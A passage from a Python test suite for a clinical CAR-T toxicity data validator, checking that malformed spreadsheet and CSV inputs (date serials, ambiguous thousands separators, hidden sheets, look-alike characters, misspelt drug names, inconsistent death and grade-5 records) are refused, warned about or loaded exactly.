           "refused", "(20240305 = 2024-03-05, yyyymmdd)", ("interventions.csv", 2, "start_day", "20240305")),
    Silent("yyyymmdd number as a death day", lambda: upload(cells("patients", (2, "death_day", "20240305"))),
           "refused", "yyyymmdd", ("patients.csv", 2, "death_day", "20240305")),
    Silent("day one billion", lambda: upload(cells("labs", (3, "day", "1e9"))),
           "refused", "Must be 7,305 or less", ("labs.csv", 3, "day", "1e9")),
    Silent("day at the 20-year bound loads exactly",
           lambda: upload(cells("patients", (3, "last_followup_day", "7305"))), "exact"),
    # --- decimal and thousands notation in a semicolon CSV ----------------------------------------------
    Silent("German thousands dot in a semicolon CSV", lambda: semicolon_cell("labs", 5, "value", "1.500"),
           "refused", "Ambiguous number in a semicolon-separated file", ("labs.csv", 5, "value", "1.500")),
    Silent("thousands dot and decimal comma in a semicolon CSV",
           lambda: semicolon_cell("interventions", 2, "daily_dose", "1.000,5"),
           "refused", "could be a thousands separator", ("interventions.csv", 2, "daily_dose", "1.000,5")),
    Silent("decimal comma in a semicolon CSV loads exactly",
           lambda: semicolon_cell("labs", 5, "value", "1500,25"), "exact", export=day_2_median("1500.25")),
    # the same rule for the comma: three digits after it may group thousands (English 1,000 = 1000, not 1)
    Silent("English thousands comma in a semicolon CSV (a dose of 1,000 mg)",
           lambda: semicolon_cell("interventions", 2, "daily_dose", "1,000"), "refused",
           "'1,000' could be a decimal comma (1,000 = 1) or a thousands separator (English 1,000 = 1000)",
           ("interventions.csv", 2, "daily_dose", "1,000")),
    Silent("thousands commas twice in a semicolon CSV", lambda: semicolon_cell("labs", 5, "value", "1,000,000"),
           "refused", "'1,000,000' groups thousands with commas", ("labs.csv", 5, "value", "1,000,000")),
    Silent("thousands comma and decimal dot in a semicolon CSV",
           lambda: semicolon_cell("labs", 5, "value", "1,500.25"), "refused", "has both a dot and a comma",
           ("labs.csv", 5, "value", "1,500.25")),
    Silent("thousands dot in a whole-number column of a semicolon CSV (ICE 1.000 read as 1)",
           lambda: semicolon_cell("toxicity", 2, "ice_score", "1.000"), "refused",
           "'1.000' could be a thousands separator", ("toxicity.csv", 2, "ice_score", "1.000")),
    Silent("UTF-8 BOM, semicolons and a thousands comma",
           lambda: upload(labs__csv=b"\xef\xbb\xbf" + table_bytes("labs", cells("labs", (4, "value", "2,500")),
                                                                   delimiter=";")),
           "refused", "'2,500' could be a decimal comma (2,500 = 2,5)", ("labs.csv", 4, "value", "2,500")),
    # no trailing zeros to drop: the advice is a form this rule accepts (a zero added, or no separator)
    Silent("1,125 in a semicolon CSV: advised 1125 or 1,1250, never 1,125 again",
           lambda: semicolon_cell("labs", 5, "value", "1,125"), "refused",
           "Write it without a thousands separator: 1125, or with a zero after the last decimal: 1,1250",
           ("labs.csv", 5, "value", "1,125")),
    Silent("1.125 in a semicolon CSV: advised 1125 or 1,1250, never 1,125",
           lambda: semicolon_cell("labs", 5, "value", "1.125"), "refused",
           "Write it without a thousands separator: 1125, or 1,1250 with a decimal comma and a zero after",
           ("labs.csv", 5, "value", "1.125")),
    Silent("the advised 1,1250 in a semicolon CSV loads exactly as 1.125",
           lambda: semicolon_cell("labs", 5, "value", "1,1250"), "exact", export=day_2_median("1.125")),
    Silent("the advised 1125 in a semicolon CSV loads exactly",
           lambda: semicolon_cell("labs", 5, "value", "1125"), "exact", export=day_2_median("1125")),
    Silent("a leading zero cannot group thousands: 0,125 in a semicolon CSV is 0.125",
           lambda: semicolon_cell("labs", 5, "value", "0,125"), "exact", export=day_2_median("0.125")),
    Silent("a leading zero cannot group thousands: 0.125 in a semicolon CSV is 0.125",
           lambda: semicolon_cell("labs", 5, "value", "0.125"), "exact", export=day_2_median("0.125")),
    Silent("-0,0 in a semicolon CSV is day 0", lambda: semicolon_cell("toxicity", 2, "day", "-0,0"),
           "exact", export=expect("swimlanes", "start_day", "0", lane="ICANS", grade="0")),
    Silent("space as a thousands separator", lambda: upload(cells("labs", (5, "value", "1 500"))), "refused",
           "Not a number: write it without thousands separators or spaces", ("labs.csv", 5, "value", "1 500")),
    Silent("no-break space as a thousands separator in a semicolon CSV",
           lambda: semicolon_cell("labs", 5, "value", "1\u00a0500,5"), "refused",
           "without thousands separators or spaces, with a comma for the decimals", ("labs.csv", 5, "value", "1\\xa0500,5")),
    # --- workbook formulas, hidden rows and columns ------------------------------------------------------
    Silent("formula with no saved value in an optional column (death_day read as alive)",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: b["patients"].__setitem__("I2", "=4+8")))], "refused",
           "Formula with no saved value (=4+8)", ("c.xlsx › patients", 2, "death_day", "=4+8")),
    Silent("formula with the result a spreadsheet program saved", lambda: [Source("c.xlsx", cached_formula(numeric_workbook()))],
           "warned", "This cell is a formula (=50+50): the result the spreadsheet program saved with it, 100, is what is "
           "loaded", ("c.xlsx › patients", 2, "last_followup_day", "100")),
    Silent("formula with a saved result in a workbook that asks to recompute it (a script's placeholder)",
           lambda: [Source("c.xlsx", cached_formula(numeric_workbook(), recompute=True))], "refused",
           "Formula whose saved result may not be what the spreadsheet shows (=50+50, saved result 100)",
           ("c.xlsx › patients", 2, "last_followup_day", "=50+50")),
    Silent("hidden rows", lambda: [Source("c.xlsx", numeric_workbook(hide_rows("labs", 3, 4)))], "warned",
           "2 rows of this sheet are hidden (rows 3-4), and read as part of the 'labs' table",
           ("c.xlsx › labs", 3, None, None), export=expect("cytokine_medians", "median", "50", group="Steroids + IVIG", analyte="CRP",
                                                          day="2")),
    Silent("a hidden column", lambda: [Source("c.xlsx", numeric_workbook(hide_column("labs", "D")))], "warned",
           "The column 'value' is hidden in this sheet (column D)", ("c.xlsx › labs", 1, "value", None)),
    Silent("hidden empty rows are no warning", lambda: [Source("c.xlsx", numeric_workbook(hide_rows("labs", 40)))],
           "exact"),
    Silent("a date typed as text in a workbook day column",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: b["toxicity"].__setitem__("B3", "2024-03-05")))],
           "refused", "Looks like a calendar date", ("c.xlsx › toxicity", 3, "day", "2024-03-05")),
    Silent("an Excel date cell in a workbook day column",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: b["toxicity"].__setitem__("B3", datetime(2024, 3, 5))))],
           "refused", "Looks like a calendar date", ("c.xlsx › toxicity", 3, "day", "2024-03-05 00:00:00")),
    # --- duplicates --------------------------------------------------------------------------------------
    Silent("duplicate intervention row (doubles the steroid total)",
           lambda: upload(appended("interventions", VALID["interventions"][1])), "warned",
           "Duplicate row: the same as row 2 in every column",
           ("interventions.csv", 4, "(every column)", "P1, dexamethasone, 5, 7, 40, mg, IV"),
           export=expect("steroid_exposure", "cumulative_dex_mg", "240", patient_id="P1")),
    Silent("duplicate toxicity row", lambda: upload(appended("toxicity", VALID["toxicity"][2])), "warned",
           "Duplicate row: the same as row 3", ("toxicity.csv", 6, "(every column)", "P1, 5, 1, 3, 2")),
    Silent("duplicate labs row", lambda: upload(appended("labs", VALID["labs"][1])), "warned",
           "Duplicate row: the same as row 2", ("labs.csv", 6, "(every column)", "P1, 1, IL-6, 150, pg/mL, false")),
    # --- same-day conflicts ------------------------------------------------------------------------------
    Silent("conflicting ICANS grades at the same day", lambda: upload(appended("toxicity", ["P1", "5", "", "1", ""])),
           "refused", "Conflicting ICANS grades for this patient at the same time (day 5: row 3 says 3, row 6 says 1)",
           ("toxicity.csv", 6, "icans_grade", "1")),
    Silent("conflicting CRS grades at the same fractional day",
           lambda: upload(appended("toxicity", ["P2", "2.5", "1", "", ""], ["P2", "2.5", "3", "", ""])),
           "refused", "Conflicting CRS grades", ("toxicity.csv", 7, "crs_grade", "3")),
    Silent("CRS and ICANS of one day in two rows is no conflict",
           lambda: upload(appended("toxicity", ["P2", "4", "2", "", ""], ["P2", "4", "", "1", ""])), "exact"),
    # --- negative concentrations -------------------------------------------------------------------------
    Silent("negative IL-6", lambda: upload(cells("labs", (4, "value", "-1.5"))), "refused",
           "Negative IL-6: a concentration or a cell count cannot be below 0", ("labs.csv", 4, "value", "-1.5")),
    Silent("negative CAR-T cell count", lambda: upload(car_t("-3")), "refused", "Negative CAR-T cells",
           ("labs.csv", 6, "value", "-3")),
    Silent("negative value of an analyte the format does not know",
           lambda: upload(appended("labs", ["P1", "3", "base excess", "-2.5", "mmol/L", ""])), "warned",
           "Negative value: kept as given", ("labs.csv", 6, "value", "-2.5")),
    # --- events after death ------------------------------------------------------------------------------
    Silent("assessment after death", lambda: upload(cells("patients", (2, "death_day", "8"), (2, "last_followup_day", "8"))),
           "warned", "After death: day 9 is after this patient's death_day (8)", ("toxicity.csv", 4, "day", "9"),
           export=expect("episodes", "outcome", "resolved", patient_id="P1")),
    Silent("sample and treatment after death",
           lambda: upload(cells("patients", (2, "death_day", "1.5"), (2, "last_followup_day", "1.5"))),
           "warned", "After death: day 2 is after this patient's death_day (1.5)", ("labs.csv", 3, "day", "2")),
    Silent("treatment ending after death", lambda: upload(SEVERE_DEATH | {"interventions": cells(
               "interventions", (2, "end_day", "13"))["interventions"]}),
           "warned", "After death: day 13 is after this patient's death_day (12)", ("interventions.csv", 2, "end_day", "13")),
    Silent("an assessment on the day of death is not after it",
           lambda: upload(cells("patients", (2, "death_day", "9"), (2, "last_followup_day", "9"))), "exact"),
    # --- events after the last follow-up of a patient known alive (adversarial finding) ---------------
    Silent("assessment after the last follow-up", lambda: upload(cells("patients", (2, "last_followup_day", "8"))),
           "warned", "After the last follow-up: day 9 is after this patient's last_followup_day",
           ("toxicity.csv", 4, "day", "9")),
    Silent("last follow-up before the infusion", lambda: upload(cells("patients", (2, "last_followup_day", "-2"))),
           "warned", "Last follow-up before the infusion (day -2)", ("patients.csv", 2, "last_followup_day", "-2")),
    # --- hidden sheets -----------------------------------------------------------------------------------
    Silent("hidden sheet", lambda: [Source("c.xlsx", numeric_workbook(hide("labs", "hidden")))], "warned",
           "This sheet is hidden in the workbook; it was read as the 'labs' table", ("c.xlsx › labs", None, None, None),
           export=expect("cytokine_medians", "median", "1.5", group="Steroids alone", day="1")),
    Silent("very hidden sheet", lambda: [Source("c.xlsx", numeric_workbook(hide("interventions", "veryHidden")))],
           "refused", "'very hidden'", ("c.xlsx › interventions", None, None, None)),
    # --- number formats that change what the user sees ---------------------------------------------------
    Silent("id formatted 000 shows 007, loads 7", lambda: [Source("c.xlsx", numeric_workbook(padded_ids))], "warned",
           "number format '000', so the spreadsheet shows it as 007, but it holds the number 7",
           ("c.xlsx › patients", 2, "patient_id", "7"), export=expect("episodes", "patient_id", "7", group="Steroids + IVIG")),
    Silent("percentage format on a lab value",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: setattr(b["labs"]["D5"], "number_format", "0%")))],
           "warned", "number format '0%'", ("c.xlsx › labs", 5, "value", "20"),
           export=day_2_median("20")),
    Silent("a rounding format is no warning: the full number loads",
           lambda: [Source("c.xlsx", numeric_workbook(lambda b: (b["labs"].__setitem__("D4", 1.25),
                                                                setattr(b["labs"]["D4"], "number_format", "0.0"))))],
           "exact", export=expect("cytokine_medians", "median", "1.25", group="Steroids alone", day="1")),
    # --- vocabulary words used as group names and free text ----------------------------------------------
    *[Silent(f"group named {word!r}", lambda word=word: upload(with_group(word, SEVERE_P2)), "warned",
             f"Kept as the text '{word}', not read as a missing value (a group of that name",
             ("patients.csv", 2, "group", word),
             export=expect_all(expect("episodes", "group", word, patient_id="P1"),
                               expect("episodes", "group", "Steroids alone", patient_id="P2")))
      for word in ("None", "NA", "N/A", "null", "NaN")],
    Silent("death cause 'NA' kept as text", lambda: upload(cells("patients", (3, "death_cause", "NA"))), "warned",
           "Kept as the text 'NA'", ("patients.csv", 3, "death_cause", "NA")),
    Silent("sex 'NA' read as missing, with a warning", lambda: upload(cells("patients", (2, "sex", "NA"))), "warned",
           "Read as missing: 'NA' is not one of F, M, other", ("patients.csv", 2, "sex", "NA")),
    Silent("an empty group is the product's group", lambda: upload(with_group("", SEVERE_P2)), "exact",
           export=expect("episodes", "group", "axi-cel", patient_id="P1")),
    # --- exact round trip of numbers -----------------------------------------------------------------------
    Silent("1000000000.25 comes out exactly", lambda: upload(car_t("1000000000.25")), "exact",
           export=expect("expansion", "cmax", "1000000000.25", patient_id="P1")),
    Silent("seventeen significant digits: warned, written to 15", lambda: upload(car_t("0.30000000000000004")),
           "warned", "More significant digits than the results keep: 0.30000000000000004 is written as 0.3",
           ("labs.csv", 6, "value", "0.30000000000000004"),
           export=expect("expansion", "cmax", "0.3", patient_id="P1")),
    Silent("fifteen significant digits come out exactly", lambda: upload(car_t("123456.789012345")), "exact",
           export=expect("expansion", "cmax", "123456.789012345", patient_id="P1")),
    Silent("a tiny value comes out exactly", lambda: upload(car_t("2.5e-300")), "exact",
           export=expect("expansion", "cmax", "2.5e-300", patient_id="P1")),
    Silent("a fractional day comes out exactly", lambda: upload(cells("toxicity", (3, "day", "5.123456789012"))),
           "exact", export=expect_all(expect("episodes", "onset_day", "5.123456789012", patient_id="P1"),
                                      expect("swimlanes", "start_day", "5.123456789012", lane="ICANS", grade="3"))),
    Silent("-0 is written 0", lambda: upload(cells("toxicity", (2, "day", "-0"))), "exact",
           export=expect_all(expect("swimlanes", "start_day", "0", lane="ICANS", grade="0"), no_text_anywhere("-0", "-0.0"))),
    Silent("ng/mL converted to pg/mL exactly", lambda: upload(cells("labs", (5, "value", "2.01"), (5, "unit", "ng/mL"))),
           "exact", export=day_2_median("2010")),  # 2.01 x 1000 = 2009.9999999999998 in floats
    Silent("a dose of 1e308 refused, never inf", lambda: upload(cells("interventions", (2, "daily_dose", "1e308"))),
           "refused", "Must be 1,000,000 or less: no daily dose", ("interventions.csv", 2, "daily_dose", "1e308")),
    Silent("a lab value of 1e308 refused, never inf", lambda: upload(car_t("1e308")), "refused",
           "Must be 1e+15 or less", ("labs.csv", 6, "value", "1e308")),
    # --- the second adversarial round (issue 10) ------------------------------------------------------------
    Silent("a lab value of 5e-400 refused, never 0", lambda: upload(car_t("5e-400")), "refused",
           "Too close to 0 to keep exactly", ("labs.csv", 6, "value", "5e-400")),
    Silent("a subnormal lab value refused, never rounded to 5e-324", lambda: upload(car_t("4.9e-324")), "refused",
           "Too close to 0 to keep exactly", ("labs.csv", 6, "value", "4.9e-324")),
    Silent("a header 'death day' warned with the column it looks like and its values not loaded",
           lambda: upload(header("patients", "death_day", "death day", SEVERE_DEATH)), "warned",
           "It looks like 'death_day', which this file does not have: its 1 value(s) are NOT loaded",
           ("patients.csv", 1, "death day", None)),
    Silent("a header 'ICANS-grade' warned with the column it looks like",
           lambda: upload(header("toxicity", "icans_grade", "ICANS-grade")), "warned",
           "It looks like 'icans_grade', which this file does not have: its 3 value(s) are NOT loaded",
           ("toxicity.csv", 1, "icans-grade", None)),  # headers are read in lower case
    Silent("'nan' in a required number column refused as a missing-value word, not called empty",
           lambda: upload(cells("labs", (2, "value", "nan"))), "refused",
           "Required: 'nan' is a word for a missing value", ("labs.csv", 2, "value", "nan")),
    Silent("an ICANS grade before the infusion warned", lambda: upload(cells("toxicity", (3, "day", "-30"))),
           "warned", "ICANS grade 3 on day -30, before the CAR-T infusion", ("toxicity.csv", 3, "icans_grade", "3")),
    Silent("a minus sign U+2212 refused with the sign escaped", lambda: upload(cells("labs", (2, "value", "\u2212150"))),
           "refused", "Not a number", ("labs.csv", 2, "value", "\\u2212150")),
    Silent("the largest accepted dose comes out exactly",
           lambda: upload(cells("interventions", (2, "daily_dose", "999999.999999"))), "exact",
           export=expect("steroid_exposure", "cumulative_dex_mg", repr(999999.999999 * 1.0 * 3), patient_id="P1")),
    # --- agent names the vocabulary does not know (adversarial finding): warned with the closest agent, never
    # mapped; the steroid total then leaves the row out, which the export shows -----------------------------
    *[Silent(f"misspelt or abbreviated agent {given!r}", lambda given=given: upload(cells("interventions", (2, "agent", given))),
             "warned", f"{shown} is not a known agent: kept as given, counted as class 'other' (so not in the steroid "
             f"totals{''.join('')}", ("interventions.csv", 2, "agent", value),
             export=expect_all(expect("steroid_exposure", "cumulative_dex_mg", "0", patient_id="P1"),
                               expect("steroid_exposure", "steroid_days", "0", patient_id="P1")))
      for given, shown, value in (("Dexa", "'Dexa'", "Dexa"), ("DXM", "'DXM'", "DXM"),
                                  ("dexametasone", "'dexametasone'", "dexametasone"),
                                  ("d\u0435xamethasone", "'d\\u0435xamethasone'", "d\\u0435xamethasone"))],
    Silent("misspelt steroid: the closest agent is suggested", lambda: upload(cells("interventions", (2, "agent", "Dexa"))),
           "warned", "Did you mean 'dexamethasone' (corticosteroid)?", ("interventions.csv", 2, "agent", "Dexa")),
    Silent("'pred' suggests both prednisone and prednisolone", lambda: upload(cells("interventions", (2, "agent", "pred"))),
           "warned", "Did you mean 'prednisone' (corticosteroid) or 'prednisolone' (corticosteroid)?",
           ("interventions.csv", 2, "agent", "pred")),
    Silent("misspelt tocilizumab: not IL-6 blockade, said so", lambda: upload(cells("interventions", (3, "agent", "tocilizumb"))),
           "warned", "Did you mean 'tocilizumab' (IL-6 blockade)?", ("interventions.csv", 3, "agent", "tocilizumb")),
    Silent("a corticosteroid outside the table is named as such",
           lambda: upload(cells("interventions", (2, "agent", "budesonide"))), "warned",
           "If it is another corticosteroid, it has no dexamethasone factor", ("interventions.csv", 2, "agent", "budesonide")),
    *[Silent(f"listed synonym {given!r} counts as methylprednisolone", lambda given=given: upload(cells("interventions", (2, "agent", given))),
             "exact", export=expect("steroid_exposure", "cumulative_dex_mg", "22.5", patient_id="P1"))  # 3 x 40 x 0.1875
      for given in ("MP", "solumedrol", "Solu-Medrol", "methylpred")],
    # --- grade 5 (ASTCT: death from the toxicity) disagreeing with death_day ----------------------------------
    Silent("grade 5 ICANS without a death_day", lambda: upload(cells("toxicity", (4, "icans_grade", "5"))), "warned",
           "Grade 5 ICANS (death from ICANS, ASTCT) on day 9, but this patient has no death_day (patients.csv, row 2)",
           ("toxicity.csv", 4, "icans_grade", "5"),
           export=expect_all(expect("episodes", "outcome", "censored", patient_id="P1"),
                             expect("episodes", "peak_grade", "5", patient_id="P1"))),
    Silent("grade 5 CRS without a death_day says how it counts", lambda: upload(cells("toxicity", (5, "crs_grade", "5"))),
           "warned", "Without a death_day the analyses count this patient as alive", ("toxicity.csv", 5, "crs_grade", "5")),
    Silent("grade 5 after the death_day", lambda: upload(cells("toxicity", (4, "icans_grade", "5"),
                                                              tables=cells("patients", (2, "death_day", "8"), (2, "last_followup_day", "8")))),
           "warned", "Grade 5 ICANS (death from ICANS) on day 9, after this patient's death_day (8; patients.csv, row 2)",
           ("toxicity.csv", 4, "icans_grade", "5"), export=expect("episodes", "outcome", "died", patient_id="P1")),
    Silent("an assessment after a grade 5", lambda: upload(cells("toxicity", (3, "icans_grade", "5"), tables=SEVERE_DEATH)),
           "warned", "Assessed after a grade 5 (death from the toxicity) on day 5 (row 3): day 9",
           ("toxicity.csv", 4, "day", "9"), export=expect("episodes", "outcome", "resolved", patient_id="P1")),
    Silent("grade 5 on the day of death is no warning",
           lambda: upload(cells("toxicity", (4, "icans_grade", "5"), tables=cells("patients", (2, "death_day", "9"),
                                                                                  (2, "last_followup_day", "9")))),
           "exact", export=expect("episodes", "outcome", "died", patient_id="P1")),
    Silent("peak grade 5 on an episode form without a death_day",
           lambda: upload(appended("toxicity_episodes", ["P2", "CRS", "3", "5", "", ""],
                                   tables={**copy_tables(), "toxicity_episodes": [
                                       ["patient_id", "syndrome", "onset_day", "peak_grade", "resolution_day", "treatments"]]})),
           "warned", "Peak grade 5 CRS (death from the toxicity, ASTCT), but this patient has no death_day (patients.csv, row 3)",
           ("toxicity_episodes.csv", 2, "peak_grade", "5")),
    # --- categories differing only in case, spacing or look-alike letters: two groups, warned, not merged -----
    Silent("groups differing only in case", lambda: upload(cells("patients", (3, "group", "steroids + ivig"),
                                                                 tables=SEVERE_P2)), "warned",
           "'steroids + ivig' (1 row: row 3) and 'Steroids + IVIG' (1 row: row 2) differ only in case: they are kept "
           "as given, so they are two groups", ("patients.csv", 3, "group", "steroids + ivig"),
           export=expect_all(expect("episodes", "group", "Steroids + IVIG", patient_id="P1"),
                             expect("episodes", "group", "steroids + ivig", patient_id="P2"),
                             lambda files: len(files["resolution_summary"]) == 2 or pytest.fail("not two arms"))),
    Silent("groups differing only in inner spacing", lambda: upload(cells("patients", (3, "group", "Steroids  +  IVIG"),
                                                                          tables=SEVERE_P2)), "warned",
           "differ only in spacing", ("patients.csv", 3, "group", "Steroids  +  IVIG"),
           export=expect("episodes", "group", "Steroids  +  IVIG", patient_id="P2")),
    Silent("groups differing by a no-break space, shown escaped",
           lambda: upload(cells("patients", (3, "group", "Steroids\u00a0+ IVIG"), tables=SEVERE_P2)), "warned",
           "'Steroids\\xa0+ IVIG' (1 row: row 3) and 'Steroids + IVIG' (1 row: row 2) differ only in look-alike or "
           "invisible characters", ("patients.csv", 3, "group", "Steroids\\xa0+ IVIG")),
    Silent("groups that look the same, one with a Cyrillic e, shown escaped and named",
           lambda: upload(cells("patients", (3, "group", "St\u0435roids + IVIG"), tables=SEVERE_P2)), "warned",
           "contains U+0435 CYRILLIC SMALL LETTER IE, which looks like Latin 'e'",
           ("patients.csv", 3, "group", "St\\u0435roids + IVIG"),
           export=expect("episodes", "group", "St\u0435roids + IVIG", patient_id="P2")),
    # --- patient ids that look the same: two patients, warned (found by an adversarial pass: nothing said so) ----
    Silent("patient ids differing only by a zero-width space",
           lambda: upload(appended("patients", ["P2\u200b", "tisa-cel", "Steroids alone", "FL", "70", "M", "0", "200",
                                                "", ""])), "warned",
           "'P2\\u200b' (1 row: row 4) and 'P2' (1 row: row 3) differ only in look-alike or invisible characters: "
           "they are kept as given, so they are two patients", ("patients.csv", 4, "patient_id", "P2\\u200b")),
    Silent("patient ids differing only in case",
           lambda: upload(appended("patients", ["p2", "tisa-cel", "Steroids alone", "FL", "70", "M", "0", "200", "", ""])),
           "warned", "'p2' (1 row: row 4) and 'P2' (1 row: row 3) differ only in case: they are kept as given, so they "
           "are two patients", ("patients.csv", 4, "patient_id", "p2")),
    Silent("unknown products differing only in case", lambda: upload(cells("patients", (2, "product", "CAR-X"),
                                                                           (3, "product", "car-x"))), "warned",
           "differ only in case: they are kept as given, so they are two products", ("patients.csv", 3, "product", "car-x")),
    Silent("Axi-cel and axi-cel are one product (the vocabulary normalises them)",
           lambda: upload(cells("patients", (2, "product", "Axi-cel"), (3, "product", "axi-cel"), (2, "group", ""),
                                (3, "group", ""), tables=SEVERE_P2)), "exact",
           export=expect_all(expect("episodes", "group", "axi-cel", patient_id="P1"),
                             expect("episodes", "group", "axi-cel", patient_id="P2"))),
    Silent("unknown agents differing only in case", lambda: upload(appended(
               "interventions", ["P1", "Ruxolitinib", "8", "", "10", "mg", "PO"], ["P2", "ruxolitinib", "3", "", "10", "mg", "PO"])),
           "warned", "are two agents in the intervention filters", ("interventions.csv", 5, "agent", "ruxolitinib")),
]


def _line(problem: tuple) -> str:
    source, row, column, _ = problem
    where = source + (f", row {row}" if row is not None else "") + (f", column {column}" if column else "")
    return where + ": "


@pytest.mark.parametrize("case", SILENT, ids=[c.id for c in SILENT])
def test_silent_change_through_the_command_line(case: Silent, tmp_path, capsys, monkeypatch):
    from icans_core.cli import main

    for name in (limits.UPLOAD_ENV, limits.ROWS_ENV):
        monkeypatch.delenv(name, raising=False)
    folder = tmp_path / "cohort"
    folder.mkdir()
    for source in case.build():
        (folder / source.name).write_bytes(source.data)
    status = main(["validate", str(folder)])
    validated = capsys.readouterr().out
    out = tmp_path / "out"
    exported_status = main(["export", str(folder), "--out", str(out)])
    export_text = capsys.readouterr().out
    severity = {"refused": "ERROR", "warned": "WARNING"}.get(case.outcome)
    if severity is None:  # loaded exactly: not a word
        assert status == exported_status == 0, validated
        assert "ERROR" not in validated and "WARNING" not in validated, validated
    else:
        assert case.words is not None and case.where is not None
        lines = [line for line in validated.splitlines() if line.startswith(f"{severity}: ")]
        wanted = f"{severity}: {_line(case.where)}"
        value = f"(value: {case.where[3]!r})" if case.where[3] is not None else ""
        assert any(line.startswith(wanted) and case.words in line and line.endswith(value) for line in lines), validated
        if case.outcome == "refused":
            assert status == exported_status == 2, validated
            assert not out.exists()  # nothing written
            assert "REFUSED" in validated and "nothing would be loaded" in validated
            return
        assert status == exported_status == 0, validated
        assert case.words in export_text  # the export says it too
    files = {p.stem: list(csv.DictReader(p.open(newline=""))) for p in out.glob("*.csv")}
    assert set(files) >= {"episodes", "steroid_exposure", "expansion", "cytokine_medians", "swimlanes"}
    no_text_anywhere("inf", "-inf", "nan", "-0")(files)
    if case.export is not None:
        case.export(files)


def test_the_silent_corpus_covers_every_case_of_issue_10():
    ids = " ".join(c.id for c in SILENT)
    for words in ("Excel date serial", "yyyymmdd", "one billion", "German thousands", "duplicate intervention",
                  "conflicting", "negative IL-6", "after death", "hidden sheet", "very hidden", "000", "'None'",
                  "'NA'", "1000000000.25", "1e308", "-0", "'Dexa'", "'DXM'", "'dexametasone'", "'pred'",
                  "tocilizumab", "grade 5 ICANS without a death_day", "grade 5 after the death_day",
                  "after a grade 5", "only in case", "Cyrillic", "1,000", "no saved value", "saved result",
                  "hidden rows", "hidden column", "-0,0", "space", "BOM", "5e-400", "subnormal", "death day",
                  "'nan'", "before the infusion", "U+2212"):
        assert words in ids, words
    assert {c.outcome for c in SILENT} == {"refused", "warned", "exact"}


FILTER_CASES = [  # (option, value as typed, what the refusal must say, the value that does match)
    ("--product", "Axi-cel", "Did you mean 'axi-cel'?", "axi-cel"),
    ("--product", "cilta-cel", "Available: 'axi-cel', 'tisa-cel'.", "tisa-cel"),  # a product nobody here has
    ("--group", "steroids alone", "Did you mean 'Steroids alone'?", "Steroids alone"),
    ("--disease", "dlbcl", "Did you mean 'DLBCL'?", "DLBCL"),
    ("--sex", "f", "Did you mean 'F'?", "F"),
    ("--costimulatory-domain", "cd28", "Did you mean 'CD28'?", "CD28"),
    ("--target", "cd19", "Did you mean 'CD19'?", "CD19"),
    ("--ecog", "4", "Available: '0', '1'.", "1"),
    ("--intervention", "ivig", "Did you mean 'IVIG'?", "IVIG"),
    ("--intervention", "Dexamethasone", "Did you mean 'dexamethasone'?", "dexamethasone"),
]


# every case through export; the report (slower to build) refuses by the same check, tried on two
FILTER_RUNS = [("export", *c) for c in FILTER_CASES] + [("report", *c) for c in FILTER_CASES[:1] + FILTER_CASES[-2:-1]]


@pytest.mark.parametrize("command,option,value,words,matching", FILTER_RUNS,
                         ids=[f"{r[0]} {r[1]} {r[2]}" for r in FILTER_RUNS])
def test_a_filter_value_no_patient_has_is_refused(command, option, value, words, matching, tmp_path, capsys):
    # case-sensitive filters: `--product Axi-cel` selected nobody without a word (adversarial finding)
    from icans_core.cli import main

    folder = tmp_path / "cohort"
    folder.mkdir()
    for source in upload(SEVERE_P2):
        (folder / source.name).write_bytes(source.data)
    out = tmp_path / ("out" if command == "export" else "report.html")
    assert main([command, str(folder), option, value, "--out", str(out)]) == 2
    printed = capsys.readouterr().out
    assert f"REFUSED: {option} '{value}'" in printed and words in printed, printed
    assert not out.exists()  # nothing written
    assert main([command, str(folder), option, matching, "--out", str(out)]) == 0, capsys.readouterr().out
    assert "REFUSED" not in capsys.readouterr().out and out.exists()
    if command == "export":  # the exact value selects its patients
        episodes = list(csv.DictReader((out / "episodes.csv").open(newline="")))
        assert episodes and len(episodes) <= 2


def test_the_module_entry_point_refuses_and_warns(tmp_path):
    # the same command as a user types it: one refused and one warned case through `python -m icans_core`
    import subprocess
    import sys
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    for name, tables, status, words in (
            ("refused", cells("toxicity", (3, "day", "45353")), 2, "toxicity.csv, row 3, column day: Looks like an Excel date serial number"),
            ("warned", with_group("None"), 0, "patients.csv, row 2, column group: Kept as the text 'None'")):
        folder = tmp_path / name
        folder.mkdir()
        for source in upload(tables):
            (folder / source.name).write_bytes(source.data)
        done = subprocess.run([sys.executable, "-m", "icans_core", "validate", str(folder)], cwd=root,
                              capture_output=True, text=True, timeout=120)
        assert done.returncode == status, done.stdout + done.stderr
        assert words in done.stdout


@pytest.mark.parametrize("given", ["1,125", "12,345", "1.125", "1,000", "12,500", "1.500", "100.000"])
def test_every_form_the_ambiguity_advice_gives_loads_exactly(given):
    # The advice names one form per reading (thousands, decimal); each must load, through the upload's own path,
    # as the number of that reading: never a form the same rule refuses again.
    table, row, column = "labs", 5, "value"
    [problem] = [p for p in load_sources(semicolon_cell(table, row, column, given)).errors]
    assert "Ambiguous number" in problem.problem, problem
    advice = problem.problem.split("Write it without a thousands separator: ", 1)[1]
    forms = re.findall(r"[+-]?\d[\d,]*\d|[+-]?\d", advice)
    thousands, decimal = Decimal(given.replace(",", "").replace(".", "")), Decimal(given.replace(",", "."))
    assert len(forms) == 2, advice
    loaded = set()
    for form in forms:
        result = load_sources(semicolon_cell(table, row, column, form))
        assert result.ok and not [p for p in result.problems if p.row == row and p.column == column], \
            result.report.to_string()
        frame = result.cohort.tables[table]
        loaded.add(Decimal(repr(float(frame.loc[frame["source_row"] == row, column].iloc[0]))))
    assert loaded == {thousands, decimal}, (advice, loaded)


# --- the runner -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, monkeypatch):
    for name in (limits.UPLOAD_ENV, limits.ROWS_ENV):
        monkeypatch.delenv(name, raising=False)
    for name, value in case.env.items():
        monkeypatch.setenv(name, value)
    uploaded = case.build()
    start = time.perf_counter()
    result = load_sources(uploaded)  # must not raise
    elapsed = time.perf_counter() - start
    assert elapsed < case.max_seconds, f"{elapsed:.1f} s"
    if case.refused is not None:
        assert not result.ok and result.cohort is None  # nothing loaded
        assert any(case.refused in p.problem and (case.source is None or p.source == case.source)
                   for p in result.errors), result.report.to_string()
    else:
        assert result.ok, result.report.to_string()
    if case.check is not None:
